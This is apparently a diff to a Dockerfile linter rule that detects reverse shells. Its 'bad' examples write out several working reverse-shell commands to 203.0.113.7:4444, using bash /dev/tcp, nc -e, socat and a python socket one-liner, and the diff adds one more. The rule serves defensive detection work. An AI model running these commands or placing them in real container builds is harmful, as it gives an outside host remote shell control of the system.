@@ -24,14 +24,16 @@ internal sealed class ReverseShell : Rule<Dockerfile>
         Example.Bad("Dockerfile", """
             FROM debian:12.8
             RUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <--
+            RUN exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5 <--
             CMD ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"] <--
             ENTRYPOINT socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444 <--
             RUN python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])' <--
             """),
         Example.Good("Dockerfile", """
             FROM debian:12.8
+            HEALTHCHECK CMD bash -c 'exec 3<>/dev/tcp/localhost/8085 && echo -e "GET /health HTTP/1.1\r\n" >&3 && grep OK <&3'
             RUN nc -z db 5432 && socat TCP-LISTEN:80,fork TCP:web:80 && (echo > /dev/tcp/db/5432) && python3 -c 'import socket; print(socket.gethostname())'
-            HEALTHCHECK CMD bash -c '</dev/tcp/localhost/80'
+            RUN bash -c '</dev/tcp/localhost/80' && timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'
             """),
     ];
 
